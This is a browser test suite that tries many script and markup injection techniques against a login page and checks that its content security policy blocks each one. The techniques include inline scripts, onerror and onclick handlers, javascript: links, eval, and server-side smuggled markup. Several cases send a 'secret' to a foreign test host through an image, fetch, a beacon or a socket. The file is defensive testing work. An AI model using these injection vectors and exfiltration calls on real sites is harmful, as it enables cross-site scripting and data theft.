import { expect } from './support/fixtures.ts'
import { field } from './support/actions.ts'
import { evil, test } from './support/security-fixtures.ts'

test.describe('somebody got script or markup into the page', () => {
  const attempts: { what: string; stopped: RegExp; code: (other: string) => unknown }[] = [
    {
      what: 'an inline script',
      stopped: /will not be executed/,
      code: () => {
        const script = document.createElement('script')
        script.append(new Text('window.broken = 1'))
        document.body.append(script)
      },
    },
    {
      what: 'markup with a handler',
      stopped: /require-trusted-types-for|Markup from text/,
      code: () => (document.body.innerHTML = '<img src=x onerror="window.broken = 1">'),
    },
    {
      what: 'a handler attribute',
      stopped: /script-src|require-trusted-types-for/,
      code: () => {
        const button = document.createElement('button')
        document.body.append(button)
        button.setAttribute('onclick', 'window.broken = 1')
        button.click()
      },
    },
    {
      what: 'a javascript: address',
      stopped: /script-src|require-trusted-types-for/,
      code: () => {
        const link = document.createElement('a')
        link.href = 'javascript:window.broken=1'
        document.body.append(link)
        link.click()
      },
    },
    { what: 'eval', stopped: /script-src|require-trusted-types-for/, code: () => void (0, eval)('window.broken = 1') },
    {
      what: 'new Function',
      stopped: /script-src|require-trusted-types-for/,
      // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- which is what is tried
      code: () => void new Function('window.broken = 1')(),
    },
    { what: 'a timer with text', stopped: /script-src|require-trusted-types-for/, code: () => setTimeout('window.broken = 1' as unknown as () => void) },
    {
      what: 'a script of another site',
      stopped: /script-src|require-trusted-types-for/,
      code: (other) => {
        const script = document.createElement('script')
        script.src = `${other}/broken.js`
        document.body.append(script)
      },
    },
    { what: 'a module of another site', stopped: /script-src/, code: (other) => import(`${other}/broken.js`) as Promise<unknown> },
    {
      what: 'a worker made of text',
      stopped: /worker-src|require-trusted-types-for/,
      code: () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
    },
    {
      what: 'a style sheet of another site',
      stopped: /style-src/,
      code: (other) => {
        const link = document.createElement('link')
        link.rel = 'stylesheet'
        link.href = `${other}/broken.css`
        document.head.append(link)
      },
    },
    {
      what: 'a style element without the nonce',
      stopped: /style-src-elem/,
      code: () => {
        const style = document.createElement('style')
        style.append(new Text('body { --broken: 1 }'))
        document.head.append(style)
        if (getComputedStyle(document.body).getPropertyValue('--broken') !== '') window.broken = 1
      },
    },
    {
      what: 'a style attribute',
      stopped: /style-src-attr/,
      code: () => {
        document.body.setAttribute('style', '--broken: 1')
        if (getComputedStyle(document.body).getPropertyValue('--broken') !== '') window.broken = 1
      },
    },
    { what: 'a picture of another site, to carry something out', stopped: /img-src/, code: (other) => (new Image().src = `${other}/picture?secret`) },
    { what: 'a request to another site', stopped: /connect-src/, code: (other) => fetch(`${other}/take?secret`) },
    { what: 'a beacon', stopped: /connect-src/, code: (other) => navigator.sendBeacon(`${other}/beacon`, 'secret') },
    { what: 'a socket to another port', stopped: /connect-src/, code: (other) => new WebSocket(`${other.replace('http', 'ws')}/socket`) },
    {
      what: 'a frame of another site',
      stopped: /frame-src/,
      code: (other) => {
        const frame = document.createElement('iframe')
        frame.src = `${other}/frame`
        document.body.append(frame)
      },
    },
    {
      what: 'a plug-in',
      stopped: /object-src|require-trusted-types-for/,
      code: (other) => {
        const object = document.createElement('object')
        object.data = `${other}/object`
        document.body.append(object)
      },
    },
    {
      what: 'a base address',
      stopped: /base-uri/,
      code: (other) => {
        const element = document.createElement('base')
        element.href = other
        document.head.prepend(element)
        const link = document.createElement('a')
        link.href = 'x'
        if (link.href.startsWith(other)) window.broken = 1
      },
    },
    {
      what: 'a form to another site',
      stopped: /form-action/,
      code: (other) => {
        const form = document.createElement('form')
        form.action = `${other}/form`
        form.method = 'post'
        document.body.append(form)
        form.submit()
      },
    },
  ]

  for (const { what, stopped, code } of attempts) {
    test(`${what}: the browser refuses`, async ({ page, violations, other, baseURL }) => {
      await page.goto('/ebm/login')
      await expect(field(page, 'E-mail')).toBeVisible()
      expect(violations).toEqual([])
      // From a task of the page's own: what the browser's tools call themselves may do more than a page.
      const attempt = `(${code.toString()})(${JSON.stringify(other.foreign(baseURL ?? ''))})`
      await page.evaluate(`void setTimeout(() => { try { ${attempt} } catch (error) { ebmViolation(String(error)) } })`)
      await expect.poll(() => violations.join('\n')).toMatch(stopped)
      expect(await page.evaluate(() => window.broken)).toBeUndefined()
      expect(other.calls).toEqual([])
      expect(await page.evaluate(() => location.pathname)).toBe('/ebm/login')
    })
  }
})

test('markup that is already in the answer of the server does not run either', async ({ page, violations, other, baseURL }) => {
  const foreign = other.foreign(baseURL ?? '')
  const smuggled = `${evil}<script src="${foreign}/broken.js"></script><style>body { --broken: 1 }</style><p id="smuggled" style="--broken: 1" onclick="window.broken=1">x</p>`
  await page.route('**/ebm/login', async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: (await response.text()).replace('<div id="app">', `${smuggled}<div id="app">`) })
  })
  await page.goto('/ebm/login')
  await expect(field(page, 'E-mail')).toBeVisible()
  await page.locator('#smuggled').click()
  for (const directive of ['script-src-elem inline', 'script-src-attr inline', `script-src-elem ${foreign}`, 'style-src-elem inline', 'style-src-attr inline']) {
    await expect.poll(() => violations.join('\n'), directive).toContain(directive)
  }
  expect(await page.evaluate(() => window.broken)).toBeUndefined()
  expect(await page.locator('#smuggled').evaluate((element) => getComputedStyle(element).getPropertyValue('--broken'))).toBe('')
  expect(other.calls).toEqual([])
})
